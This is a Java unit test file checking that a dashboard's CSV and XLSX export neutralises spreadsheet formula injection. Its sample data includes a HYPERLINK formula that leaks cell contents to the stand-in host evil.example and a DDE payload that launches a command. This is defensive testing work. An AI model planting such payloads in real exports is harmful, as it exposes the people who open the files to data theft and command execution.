package com.demarc.coverage.ui;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** A dashboard export of a hostile title reads back as text in the spreadsheet, never as a formula. */
class TableExportTest {
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click for details\")";

    private final TableExport.Table table = new TableExport.Table("coverage-by-team", List.of("Team", "Covered", "Note"),
            List.of(List.of(HYPERLINK, 12, "+cmd|' /C calc'!A0"), List.of("Payments", -3, "@SUM(1+1)"),
                    List.of("-2+3", 0.5, "\tindented")));

    @Test
    void csvCellsThatWouldRunAsFormulasArePrefixedAndNumbersStayNumbers() throws Exception {
        String csv = new String(TableExport.csv(table), StandardCharsets.UTF_8);
        try (var parser = CSVParser.builder().setReader(new StringReader(csv))
                .setFormat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
            var rows = parser.getRecords();
            assertThat(rows.get(0).get("Team")).isEqualTo("'" + HYPERLINK);
            assertThat(rows.get(0).get("Note")).isEqualTo("'+cmd|' /C calc'!A0");
            assertThat(rows.get(1).get("Team")).isEqualTo("Payments");
            assertThat(rows.get(1).get("Covered")).isEqualTo("-3");
            assertThat(rows.get(1).get("Note")).isEqualTo("'@SUM(1+1)");
            assertThat(rows.get(2).get("Team")).isEqualTo("'-2+3");
            assertThat(rows.get(2).get("Note")).isEqualTo("'\tindented");
        }
    }

    @Test
    void xlsxCellsAreTextNotFormulas() throws Exception {
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(TableExport.xlsx(table)))) {
            var sheet = book.getSheetAt(0);
            var cell = sheet.getRow(1).getCell(0);
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo("'" + HYPERLINK);
            assertThat(sheet.getRow(2).getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(sheet.getRow(2).getCell(1).getNumericCellValue()).isEqualTo(-3.0);
            assertThat(sheet.getRow(2).getCell(2).getStringCellValue()).isEqualTo("'@SUM(1+1)");
        }
    }
}
